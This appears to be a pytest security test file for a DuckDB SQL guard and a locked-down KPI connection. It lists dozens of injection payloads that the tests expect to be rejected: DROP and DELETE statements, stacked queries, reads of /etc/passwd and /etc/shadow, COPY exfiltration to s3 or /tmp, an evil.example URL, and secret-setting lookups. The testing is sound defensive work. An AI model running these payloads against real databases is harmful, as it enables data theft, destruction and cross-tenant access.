"""The SQL guard (shared/security/sqlguard.py, issue 5) against an attack list, and the locked-down KPI
connection behind it (defence in depth: a query the guard missed still reaches nothing)."""
from __future__ import annotations

import duckdb
import pytest

from shared.security import sqlguard

pytestmark = pytest.mark.security
TABLES = ["sales", "Orders"]

ATTACKS = {
    # statements that are not one read-only query
    "drop": "DROP TABLE sales",
    "delete": "DELETE FROM sales",
    "insert": "INSERT INTO sales VALUES (1)",
    "update": "UPDATE sales SET amount = 0",
    "create": "CREATE TABLE x AS SELECT 1",
    "ctas hidden in a cte": "WITH x AS (SELECT 1) CREATE TABLE y AS SELECT * FROM x",
    "alter": "ALTER TABLE sales ADD COLUMN x INT",
    "stacked": "SELECT 1; DROP TABLE sales",
    "stacked after comment": "SELECT 1 -- harmless\n; DELETE FROM sales",
    "two selects": "SELECT * FROM sales; SELECT 1",
    "attach": "ATTACH '/tmp/other.duckdb' AS other",
    "detach": "DETACH warehouse",
    "use": "USE other",
    "copy to": "COPY sales TO '/tmp/leak.csv'",
    "copy query to": "COPY (SELECT * FROM sales) TO 's3://bucket/leak.parquet'",
    "copy from": "COPY sales FROM '/etc/passwd'",
    "install": "INSTALL httpfs",
    "load": "LOAD httpfs",
    "pragma": "PRAGMA database_list",
    "set": "SET enable_external_access = true",
    "reset": "RESET lock_configuration",
    "call": "CALL pragma_version()",
    "export": "EXPORT DATABASE '/tmp/x'",
    "import": "IMPORT DATABASE '/tmp/x'",
    "checkpoint": "CHECKPOINT",
    "vacuum": "VACUUM",
    "begin": "BEGIN TRANSACTION",
    "summarize": "SUMMARIZE sales",
    "describe": "DESCRIBE sales",
    "show": "SHOW TABLES",
    "select into": "SELECT * INTO leak FROM sales",
    "create secret": "CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')",
    "set variable": "SET VARIABLE x = 1",
    # files, URLs and other databases
    "read_csv": "SELECT * FROM read_csv('/etc/passwd')",
    "read_csv_auto": "SELECT * FROM read_csv_auto('/etc/passwd')",
    "READ_CSV upper": "sElEcT * FrOm ReAd_CsV('/etc/passwd')",
    "quoted function": 'SELECT * FROM "read_csv"(\'/etc/passwd\')',
    "read_parquet": "SELECT * FROM read_parquet('s3://bucket/x.parquet')",
    "read_json": "SELECT * FROM read_json('/etc/hosts')",
    "read_text": "SELECT * FROM read_text('/etc/passwd')",
    "read_blob": "SELECT * FROM read_blob('/etc/shadow')",
    "read_xlsx": "SELECT * FROM read_xlsx('/tmp/x.xlsx')",
    "file as table": "SELECT * FROM '/etc/passwd'",
    "csv as table": "SELECT * FROM 'data.csv'",
    "url as table": "SELECT * FROM 'https://evil.example/x.csv'",
    "s3 as table": "SELECT * FROM 's3://bucket/x.parquet'",
    "from first": "FROM read_csv('/etc/passwd')",
    "glob": "SELECT * FROM glob('/*')",
    "sniff_csv": "SELECT * FROM sniff_csv('/etc/passwd')",
    "parquet_metadata": "SELECT * FROM parquet_metadata('/tmp/x.parquet')",
    "postgres_scan": "SELECT * FROM postgres_scan('host=127.0.0.1', 'public', 't')",
    "sqlite_scan": "SELECT * FROM sqlite_scan('/tmp/x.db', 't')",
    "iceberg_scan": "SELECT * FROM iceberg_scan('s3://x')",
    "query": "SELECT * FROM query('SELECT * FROM read_csv(''/etc/passwd'')')",
    "query_table": "SELECT * FROM query_table('sales')",
    "in a cte": "WITH x AS (SELECT * FROM read_csv('/etc/passwd')) SELECT * FROM x",
    "in a subquery": "SELECT (SELECT count(*) FROM read_parquet('s3://x/y.parquet')) AS n",
    "in a lateral join": "SELECT * FROM sales, LATERAL (SELECT * FROM read_csv('/etc/passwd'))",
    "in a union": "SELECT 1 AS a UNION ALL SELECT 1 FROM read_csv('/etc/passwd')",
    "in a where": "SELECT * FROM sales WHERE EXISTS (SELECT 1 FROM read_text('/etc/passwd'))",
    "in a scalar": "SELECT length(content) FROM read_text('/etc/passwd')",
    # settings, environment, catalogue, other schemas and tenants
    "getenv": "SELECT getenv('HOME')",
    "current_setting": "SELECT current_setting('s3_secret_access_key')",
    "duckdb_settings": "SELECT * FROM duckdb_settings()",
    "duckdb_secrets": "SELECT * FROM duckdb_secrets()",
    "duckdb_tables": "SELECT * FROM duckdb_tables()",
    "duckdb_extensions": "SELECT * FROM duckdb_extensions()",
    "pragma function": "SELECT * FROM pragma_database_list()",
    "which_secret": "SELECT which_secret('s3://x', 's3')",
    "information_schema": "SELECT * FROM information_schema.tables",
    "pg_catalog": "SELECT * FROM pg_catalog.pg_tables",
    "udb_meta": "SELECT * FROM udb_meta.batches",
    "udb_snapshots": "SELECT * FROM udb_snapshots.sales",
    "other database": "SELECT * FROM other.main.sales",
    "system catalogue": "SELECT * FROM system.main.duckdb_tables",
    "another tenant's table": "SELECT * FROM acme_secret__customers",
    "parameters": "SELECT * FROM sales WHERE amount > $1",
    "named parameter": "SELECT * FROM sales WHERE amount > $limit",
    "question mark": "SELECT * FROM sales WHERE amount > ?",
    # shapes that only parse
    "empty": "   ",
    "comment only": "-- nothing",
    "garbage": "SELEC * FORM sales",
    "too long": "SELECT " + " + ".join(["1"] * 10_000),
}

ALLOWED = {
    "aggregate": "SELECT region, sum(amount) AS total FROM sales GROUP BY region ORDER BY total DESC",
    "case-insensitive table": "SELECT count(*) FROM SALES",
    "schema main": "SELECT count(*) FROM main.sales",
    "cte and window": ("WITH t AS (SELECT region, amount FROM sales) SELECT region, "
                       "rank() OVER (PARTITION BY region ORDER BY amount) AS r FROM t"),
    "join": "SELECT s.region, count(*) FROM sales s JOIN \"Orders\" o ON s.region = o.region GROUP BY 1",
    "generated": "SELECT range AS n FROM range(10)",
    "a string that looks like a path": "SELECT '/etc/passwd' AS path, 'read_csv(x)' AS text FROM sales LIMIT 1",
    "trailing semicolon": "SELECT 1 AS one;",
}


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_the_guard_refuses_every_attack_naming_a_reason(name):
    with pytest.raises(sqlguard.SQLRejected) as info:
        sqlguard.check_select(ATTACKS[name], TABLES)
    assert info.value.problems and all(isinstance(p, str) and p for p in info.value.problems)
    assert str(info.value).startswith("query rejected: ")


@pytest.mark.parametrize("name", sorted(ALLOWED))
def test_the_guard_allows_plain_queries_over_the_tenants_tables(name):
    checked = sqlguard.check_select(ALLOWED[name], TABLES)
    assert checked.sql and "--" not in checked.sql and "/*" not in checked.sql


def test_what_runs_is_what_was_checked_without_comments():
    checked = sqlguard.check_select("SELECT 1 AS one /* ; DROP TABLE sales */ -- ; DELETE FROM sales", TABLES)
    assert "DROP" not in checked.sql.upper() and "DELETE" not in checked.sql.upper()
    assert sqlguard.check_select("SELECT * FROM sales JOIN orders USING (region)", TABLES).tables == ["Orders", "sales"]


def test_the_kpi_connection_refuses_files_settings_and_writes_even_unguarded(tmp_path):
    from functions.analyze.kpis import open_kpi_connection
    warehouse = tmp_path / "warehouse.duckdb"
    with duckdb.connect(str(warehouse)) as con:
        con.execute("CREATE TABLE sales AS SELECT range AS id FROM range(5)")
    (tmp_path / "secret.csv").write_text("a\n1\n")
    con = open_kpi_connection(warehouse)
    try:
        assert con.execute("SELECT count(*) FROM sales").fetchone() == (5,)
        for sql in (f"SELECT * FROM read_csv('{tmp_path / 'secret.csv'}')",
                    f"COPY sales TO '{tmp_path / 'leak.csv'}'",
                    "SET enable_external_access = true",
                    "SET lock_configuration = false",
                    f"ATTACH '{tmp_path / 'other.duckdb'}' AS other",
                    "CREATE TABLE sales2 AS SELECT 1",
                    "INSERT INTO sales VALUES (6)",
                    "INSTALL httpfs"):
            with pytest.raises(duckdb.Error):
                con.execute(sql)
        assert not (tmp_path / "leak.csv").exists() and not (tmp_path / "other.duckdb").exists()
    finally:
        con.close()
